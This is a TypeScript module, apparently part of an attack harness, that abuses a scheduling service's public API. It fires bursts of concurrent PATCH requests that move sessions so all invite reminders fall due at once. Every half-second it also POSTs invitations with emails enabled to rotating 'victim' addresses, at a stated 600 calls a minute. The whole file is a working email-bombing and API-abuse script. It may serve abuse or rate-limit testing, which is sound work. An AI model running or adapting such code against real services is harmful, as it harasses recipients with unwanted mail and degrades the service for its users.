import { everyMs } from './repeat.ts';
import { PUBLIC_ROOT, type Attack } from './prepare-attack.ts';

const HOUR_MS = 3_600_000;

/** As many as wait for one session at once; with the rest of the attack they make 600 calls a minute. */
const BURST = 20;
const BURST_EVERY_MS = 5_000;

/** Moves sessions so that reminders of all their invites are due at once, and sends links to a few again and again. */
export const botherRecipients = async (
  { callByKey, plannedIds }: Attack,
  signal: AbortSignal,
): Promise<void> => {
  const move = (turn: number, call: number) => {
    const ahead = turn % 2 === 0 ? HOUR_MS : 24 * HOUR_MS;
    const scheduled_for = new Date(Date.now() + ahead + 3_000 + call).toISOString();
    const id = plannedIds[turn % plannedIds.length];
    return callByKey('move a session', {
      method: 'PATCH',
      path: `${PUBLIC_ROOT}/sessions/${id}`,
      body: { scheduled_for },
    });
  };
  const moveAtOnce = (turn: number) =>
    Promise.all(Array.from({ length: BURST }, (_, call) => move(turn, call)));
  const invite = (turn: number) =>
    callByKey('invite by e-mail', {
      method: 'POST',
      path: `${PUBLIC_ROOT}/sessions/${plannedIds[turn % plannedIds.length]}/participants`,
      body: { recipient_email: `victim${turn % 3}@example.com`, send_email: true },
    });
  await Promise.all([everyMs(BURST_EVERY_MS, { signal }, moveAtOnce), everyMs(500, { signal }, invite)]);
};
